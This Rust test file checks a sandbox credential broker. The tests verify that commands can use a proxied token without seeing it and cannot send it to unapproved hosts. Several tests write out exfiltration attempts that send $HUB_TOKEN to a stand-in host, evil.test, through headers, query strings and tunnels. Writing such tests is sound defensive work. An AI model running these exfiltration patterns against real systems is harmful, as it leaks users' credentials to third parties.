//! Credentials that commands use and never see.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tillerman_ports::BoxFuture;
use tillerman_sandbox::{
    Confinement, LentCredential, LentSecret, NetworkPolicy, PrivateAddresses, ProxyRules,
    SecretSource, UnixSockets, Upstream as Carrier,
};

use crate::upstream::{Asked, Goodbye, Upstream, doubtful_world, world};
use crate::world::{ATTACKER, World, everyone};

const PROXY: &str = "127.0.0.1:17391";
pub(crate) const SECRET: &str = "ghp_the-real-secret";

/// Knows the secret, and how often it was asked.
#[derive(Debug, Default)]
pub(crate) struct Known {
    pub(crate) asked: AtomicUsize,
    pub(crate) is_lost: bool,
    pub(crate) instead: Option<&'static str>,
}

impl SecretSource for Known {
    fn reveal(&self) -> BoxFuture<Result<LentSecret, String>> {
        self.asked.fetch_add(1, Ordering::SeqCst);
        let secret = self.instead.unwrap_or(SECRET);
        let found = if self.is_lost { Err("it is lost".to_owned()) } else { Ok(secret) };
        Box::pin(async move {
            found.and_then(|text| LentSecret::new(text).map_err(|error| error.to_string()))
        })
    }
}

pub(crate) fn lending(
    world: &World,
    source: &Arc<Known>,
    private_addresses: PrivateAddresses,
) -> Confinement {
    let credential = LentCredential {
        name: "hub".to_owned(),
        hosts: vec!["good.test".to_owned()],
        variables: vec!["HUB_TOKEN".to_owned()],
        username: "x-access-token".to_owned(),
        source: Arc::<Known>::clone(source),
    };
    let rules = ProxyRules {
        allowed: vec!["*".to_owned()],
        denied: Vec::new(),
        private_addresses,
        upstream: Carrier::BuiltIn,
    };
    Confinement {
        network: NetworkPolicy::Proxied(rules),
        credentials: vec![credential],
        ..world.confinement()
    }
}

fn allowed(world: &World) -> Confinement {
    lending(world, &Arc::default(), PrivateAddresses::Allowed)
}

/// A server that repeats in its head what it was sent there.
fn echoing() -> Upstream {
    Upstream::start(|asked: &Asked| {
        let sent = asked.header("authorization").or(asked.header("x-api-key")).unwrap_or("nothing");
        let head = format!("HTTP/1.1 200 OK\r\nX-Echo: {sent}\r\nKeep-Alive: timeout=5\r\n");
        format!("{head}Connection: keep-alive\r\nContent-Length: 4\r\n\r\nbody").into_bytes()
    })
}

/// A script that sends a request and prints the answer.
fn sending(request: &str, headers: &str) -> String {
    format!("{ATTACKER} proxy {PROXY} \"{request} HTTP/1.1\\r\\n{headers}\\r\\n\"")
}

#[test]
fn a_command_uses_a_credential_that_it_never_sees() {
    everyone("broker::a_command_uses_a_credential_that_it_never_sees", || {
        let upstream = echoing();
        let world = world(upstream.port);
        let headers = [
            "Authorization: Bearer $HUB_TOKEN\\r\\nProxy-Authorization: Basic eA==\\r\\n",
            "X-Api-Key: $HUB_TOKEN\\r\\nConnection: keep-alive, X-Hop\\r\\nX-Hop: x\\r\\n",
            "Authorization: Basic $(printf me:$HUB_TOKEN | base64 -w0)\\r\\n",
            "Accept: */*\\r\\n",
        ];
        let requests = headers.map(|it| sending("GET http://good.test/a?b", it)).join("; ");
        let ended = world.run_in(allowed(&world), &format!("echo $HUB_TOKEN; {requests}; env"));
        let said = ended.succeeded();
        assert!(!said.contains(SECRET), "{ended:#?}");
        let sentinel = said.lines().next().unwrap();
        assert!(sentinel.starts_with("tillerman-credential-hub-"), "{ended:#?}");
        assert!(said.contains(&format!("X-Echo: Bearer {sentinel}")), "{ended:#?}");
        assert!(said.contains(&format!("X-Echo: {sentinel}")), "{ended:#?}");
        assert_eq!(said.matches("Connection: close\r\n").count(), 4, "{ended:#?}");
        assert!(!said.contains("Keep-Alive") && !said.contains("keep-alive"), "{ended:#?}");
        let asked = upstream.take();
        assert_eq!(asked.len(), 4);
        for request in &asked {
            assert_eq!(request.line, "GET /a?b HTTP/1.1");
            assert_eq!(request.header("host"), Some("good.test"));
            assert_eq!(request.header("connection"), Some("close"));
            assert_eq!(request.header("proxy-authorization").or(request.header("x-hop")), None);
        }
        assert_eq!(asked[0].header("authorization"), Some("Bearer ghp_the-real-secret"));
        assert_eq!(asked[1].header("x-api-key"), Some(SECRET));
        let basic = "Basic bWU6Z2hwX3RoZS1yZWFsLXNlY3JldA==";
        assert_eq!(asked[2].header("authorization"), Some(basic));
        assert_eq!(asked[3].header("authorization"), None);
        assert!(ended.violations.is_empty(), "{ended:#?}");
    });
}

#[test]
fn what_stands_for_a_credential_goes_to_no_other_host() {
    everyone("broker::what_stands_for_a_credential_goes_to_no_other_host", || {
        let upstream = echoing();
        let world = world(upstream.port);
        let plain = upstream.port;
        let attacks = [
            sending("GET http://evil.test/", "Authorization: Bearer $HUB_TOKEN\\r\\n"),
            sending("GET http://api.good.test/", "X-Api-Key: $HUB_TOKEN\\r\\n"),
            sending(&format!("GET http://good.test:{plain}/"), "X-Api-Key: $HUB_TOKEN\\r\\n"),
            sending("GET http://evil.test/?$HUB_TOKEN", ""),
            sending(
                "GET http://evil.test/",
                "Authorization: basic $(printf $HUB_TOKEN: | base64 -w0)\\r\\n",
            ),
            sending("CONNECT evil.test:443", "X: $HUB_TOKEN\\r\\n"),
        ];
        for attack in attacks {
            let source = Arc::new(Known::default());
            let confinement = lending(&world, &source, PrivateAddresses::Allowed);
            let ended = world.run_in(confinement, &attack);
            assert!(ended.stdout.contains("403 Forbidden"), "{attack}: {ended:#?}");
            let said = "is no host of the credential hub";
            assert!(ended.stdout.contains(said), "{attack}: {ended:#?}");
            assert_eq!(ended.violations.len(), 1, "{attack}: {ended:#?}");
            assert!(ended.violations[0].text.contains(said), "{ended:#?}");
            assert_eq!(source.asked.load(Ordering::SeqCst), 0, "{attack}");
        }
        assert!(upstream.take().is_empty());
    });
}

#[test]
fn nothing_is_replaced_in_a_tunnel() {
    everyone("broker::nothing_is_replaced_in_a_tunnel", || {
        let world = world(1);
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                drop(std::io::copy(&mut &stream, &mut &stream));
            }
        });
        let script = format!(
            "{ATTACKER} proxy {PROXY} \"CONNECT good.test:{port} HTTP/1.1\\r\\n\\r\\n\
             Authorization: Bearer $HUB_TOKEN\""
        );
        let ended = world.run_in(allowed(&world), &script);
        let said = ended.succeeded();
        assert!(said.contains("200 Connection established"), "{ended:#?}");
        assert!(said.contains("Bearer tillerman-credential-hub-"), "{ended:#?}");
    });
}

#[test]
fn hosts_of_credentials_are_judged_like_all_others() {
    everyone("broker::hosts_of_credentials_are_judged_like_all_others", || {
        let upstream = echoing();
        let world = world(upstream.port);
        let request = sending("GET http://good.test/", "X-Api-Key: $HUB_TOKEN\\r\\n");
        let rules = |allowed: &[&str], denied: &[&str], private_addresses| ProxyRules {
            allowed: allowed.iter().map(|it| (*it).to_owned()).collect(),
            denied: denied.iter().map(|it| (*it).to_owned()).collect(),
            private_addresses,
            upstream: Carrier::BuiltIn,
        };
        for (rules, why) in [
            (rules(&["evil.test"], &[], PrivateAddresses::Allowed), "not among the allowed"),
            (rules(&["good.test:80"], &[], PrivateAddresses::Allowed), "not among the allowed"),
            (rules(&["*"], &["good.test"], PrivateAddresses::Allowed), "is denied"),
            (rules(&["*"], &[], PrivateAddresses::Refused), "leads to an address of this machine"),
        ] {
            let source = Arc::new(Known::default());
            let confinement = Confinement {
                network: NetworkPolicy::Proxied(rules),
                ..lending(&world, &source, PrivateAddresses::Allowed)
            };
            let ended = world.run_in(confinement, &request);
            assert!(ended.stdout.contains("403 Forbidden"), "{ended:#?}");
            assert!(ended.violations[0].text.starts_with("good.test:443"), "{ended:#?}");
            assert!(ended.violations[0].text.contains(why), "{ended:#?}");
            assert_eq!(source.asked.load(Ordering::SeqCst), 0);
        }
        assert!(upstream.take().is_empty());
    });
}

#[test]
fn a_request_that_is_not_sent_says_why() {
    everyone("broker::a_request_that_is_not_sent_says_why", || {
        let upstream = echoing();
        let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let token = "Authorization: token $HUB_TOKEN\\r\\n";
        let get = sending("GET http://good.test/", token);
        let check = |world: &World, source: Known, script: &str, status: &str, why: &str| {
            let source = Arc::new(source);
            let confinement = lending(world, &source, PrivateAddresses::Allowed);
            let ended = world.run_in(confinement, script);
            assert!(ended.stdout.contains(status), "{ended:#?}");
            assert!(ended.stdout.contains(why), "{ended:#?}");
            assert!(!ended.stdout.contains(SECRET), "{ended:#?}");
            source.asked.load(Ordering::SeqCst)
        };
        let (down, doubtful) = (world(closed.port()), doubtful_world(upstream.port));
        let fine = world(upstream.port);
        let known = Known::default;
        let asked = check(&down, known(), &get, "502 Bad", "good.test could not be reached");
        assert_eq!(asked, 0, "nobody was there to get the secret");
        let asked = check(&doubtful, known(), &get, "502 Bad", "certificate");
        assert_eq!(asked, 0, "nobody knows who would have got the secret");
        let lost = Known { is_lost: true, ..known() };
        let why = "the credential hub could not be lent, because it is lost";
        check(&fine, lost, &get, "502 Bad", why);
        let agent = sending("GET http://good.test/", "User-Agent: $HUB_TOKEN\\r\\n");
        check(&fine, known(), &agent, "400 Bad", "User-Agent");
        check(&fine, known(), &sending("TRACE http://good.test/", token), "400 Bad", "TRACE");
        assert!(upstream.take().is_empty());
    });
}

#[test]
fn a_server_that_makes_no_sense_is_told_apart() {
    everyone("broker::a_server_that_makes_no_sense_is_told_apart", || {
        let upstream = Upstream::start(|_| b"no HTTP at all\r\n\r\n".to_vec());
        let world = world(upstream.port);
        let request = sending("GET http://good.test/", "X-Api-Key: $HUB_TOKEN\\r\\n");
        let ended = world.run_in(allowed(&world), &request);
        assert!(ended.succeeded().contains("502 Bad Gateway"), "{ended:#?}");
        assert!(ended.stdout.contains("good.test gave no answer that makes sense"), "{ended:#?}");
    });
}

#[test]
fn a_server_may_hang_up_where_nothing_else_ends_its_answer() {
    everyone("broker::a_server_may_hang_up_where_nothing_else_ends_its_answer", || {
        let upstream = Upstream::with_goodbye(Goodbye::Unsaid, |asked: &Asked| {
            let length = if asked.line.contains("/long") { "Content-Length: 99\r\n" } else { "" };
            format!("HTTP/1.1 200 OK\r\n{length}\r\nuntil closed").into_bytes()
        });
        let world = world(upstream.port);
        let token = "X-Api-Key: $HUB_TOKEN\r\n";
        let ended = world.run_in(allowed(&world), &sending("GET http://good.test/", token));
        assert!(ended.succeeded().ends_with("until closed\r\n0"), "{ended:#?}");
        // One that says how long it is and stops before stays short.
        let ended = world.run_in(allowed(&world), &sending("GET http://good.test/long", token));
        assert!(ended.stdout.contains("Content-Length: 99\r\n"), "{ended:#?}");
        assert!(ended.succeeded().ends_with("until closed"), "{ended:#?}");
    });
}

#[test]
fn the_broker_of_another_session_is_out_of_reach() {
    everyone("broker::the_broker_of_another_session_is_out_of_reach", || {
        let world = world(1);
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let other = runtime.block_on(world.sandbox.prepare(allowed(&world))).unwrap();
        let socket = other.private_temp().parent().unwrap().join("egress");
        assert!(socket.exists());
        let confinement = Confinement { unix_sockets: UnixSockets::All, ..world.confinement() };
        let attack = format!("{ATTACKER} unix {}", socket.display());
        world.run_in(confinement, &attack).failed_saying("refused");
    });
}

#[test]
fn where_another_carries_the_traffic_nothing_is_lent() {
    everyone("broker::where_another_carries_the_traffic_nothing_is_lent", || {
        let world = world(1);
        let rules = ProxyRules {
            upstream: Carrier::Own { http: Some(1), socks: None },
            ..ProxyRules::default()
        };
        for network in [NetworkPolicy::Proxied(rules), NetworkPolicy::None] {
            let confinement = Confinement { network, ..allowed(&world) };
            let ended = world.run_in(confinement, "env");
            assert!(!ended.succeeded().contains("tillerman-credential"), "{ended:#?}");
            assert!(!ended.stdout.contains("HUB_TOKEN"), "{ended:#?}");
        }
    });
}
